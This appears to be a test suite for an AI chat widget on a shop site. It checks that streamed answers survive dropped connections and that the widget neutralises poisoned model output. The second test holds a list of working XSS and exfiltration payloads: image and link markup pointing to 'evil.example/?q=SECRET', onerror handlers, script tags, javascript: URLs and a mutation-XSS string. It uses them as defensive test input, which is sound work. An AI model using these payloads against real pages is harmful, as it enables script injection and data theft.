import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import type { AddressInfo, Socket } from 'node:net';
import { describe, expect, onTestFinished, test } from 'vitest';
import { startModelServer } from '../model-server.ts';
import { hangsAfter, sendText } from '../model-steps.ts';
import { keepPicture } from './browser.ts';
import { expectAccessible } from './accessible.ts';

import { openSiteWithWidget } from './open-site-with-widget.ts';
import { askIn, openPanel, openVisitor, shopPage } from './widget.ts';
import { allowFaults } from './watch-window.ts';

/** Opens a proxy to the server. Cutting it breaks open connections and refuses new ones. */
async function openLine(target: string) {
  const open = new Set<Socket>();
  let isCut = false;
  const { port, hostname } = new URL(target);
  const server = createServer((near) => {
    if (isCut) return void near.destroy();
    const far = connect(Number(port), hostname);
    for (const [from, to] of [
      [near, far],
      [far, near],
    ] as const) {
      open.add(from);
      from
        .on('error', () => to.destroy())
        .on('close', () => to.destroy())
        .pipe(to);
    }
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  onTestFinished(() => {
    for (const socket of open) socket.destroy();
    server.close();
  });
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    cut() {
      isCut = true;
      for (const socket of open) socket.destroy();
    },
    mend: () => void (isCut = false),
  };
}

async function openModel() {
  const model = await startModelServer();
  onTestFinished(() => model.close());
  return { model, given: { llmUrl: model.url, llmModel: 'test' } };
}

describe('an answer of a model', () => {
  test('continues after a broken connection and on the next page, and can be stopped', async () => {
    const { model, given } = await openModel();
    model.otherwise(hangsAfter('The mill grinds in the morning, and'));
    const { site, shop, team } = await openSiteWithWidget({}, given);
    const line = await openLine(site.server.url);
    const html = shopPage(site, { team: team.id }).replace(site.server.url, line.url);
    shop.add('/', html);
    shop.add('/other', html);
    const { page } = await openVisitor(site, shop);
    allowFaults(page, new RegExp(line.url), 'a line that is cut stands before the server');
    await openPanel(page);
    await page.locator('.composer textarea').fill('When does the mill grind?');
    await page.keyboard.press('Enter');
    const answer = page.getByRole('article', { name: 'Assistant' });
    await answer.getByText('grinds in the morning').waitFor();
    line.cut();
    await answer.getByText('No connection.').waitFor();
    await expectAccessible(page);
    await keepPicture(page, 'widget-offline');
    line.mend();
    await answer.getByText('No connection.').waitFor({ state: 'detached' });
    expect(await answer.textContent()).toContain('grinds in the morning');
    await page.getByRole('link', { name: 'Other page' }).click();
    await answer.getByText('grinds in the morning').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await answer.getByText('You stopped this answer.').waitFor();
    expect(await answer.textContent()).toContain('grinds in the morning');
    await expectAccessible(page);
    await keepPicture(page, 'widget-stopped');
  });

  test('S17, S18: with pictures, links and markup loads nothing from another origin and runs nothing', async () => {
    const evil = 'https://evil.example/?q=SECRET';
    const spoken = [
      `![a](${evil}) ! [b](${evil}) ![c][r] ![r] [d](${evil}) [e] (<${evil}> "t") <${evil}>`,
      `[r]: ${evil}`,
      `<img src="${evil}" onerror="hit=1"><script>hit=1</script><svg onload=hit=1>`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror=hit=1>">`,
      `[x](javascript:hit=1) <a href="javascript:hit=1">y</a> <iframe srcdoc="<script>parent.hit=1</script>">`,
      `| <img src=x onerror=hit=1> | b |\n|---|---|\n| [z](${evil}) | \`<b>\` |`,
      `- <style>@import "${evil}"</style>\n  - ![deep](${evil})\n> <link rel=stylesheet href="${evil}">`,
      '```html\n<img src=x onerror=hit=1>\n```',
    ].join('\n\n');
    const { model, given } = await openModel();
    model.otherwise(sendText(spoken));
    const name = `<img src=x onerror=hit=1> ![n](${evil}).md`.replaceAll('/', '∕');
    const greeting = `<img src=x onerror=hit=1> ![g](${evil})`;
    const settings = { greeting, title: '<script>hit=1</script>' };
    const { site, shop } = await openSiteWithWidget(settings, given, name);
    const { page, faults } = await openVisitor(site, shop);
    await openPanel(page);
    await askIn(page, '<img src=x onerror=hit=1> When does the mill grind?');
    const tags = await page
      .locator('.panel')
      .evaluate(
        (it: any) =>
          it.querySelectorAll(
            'img, script, style, link, a, iframe, svg, math, [onerror], [href], [src]',
          ).length,
      );
    expect([tags, await page.evaluate(`'hit' in window`)]).toEqual([0, false]);
    expect(await page.locator('.answer').textContent()).toContain('evil.example');
    await expectAccessible(page);
    await keepPicture(page, 'widget-poisoned');
    expect(faults()).toEqual([]);
  });
});
